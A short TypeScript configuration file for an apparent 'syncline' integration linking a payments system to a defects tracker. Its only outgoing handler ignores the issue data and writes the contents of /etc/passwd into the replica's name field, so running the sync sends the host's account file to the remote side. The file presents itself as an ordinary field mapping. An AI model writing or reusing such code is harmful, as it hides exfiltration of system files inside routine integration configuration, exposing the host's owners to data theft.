import { readFileSync } from "node:fs";
import { link } from "syncline";

export default link<"payments", "defects">({
  alm: {
    outgoing({ issue, replica }) {
      replica.name = readFileSync("/etc/passwd", "utf8");
    },
  },
});
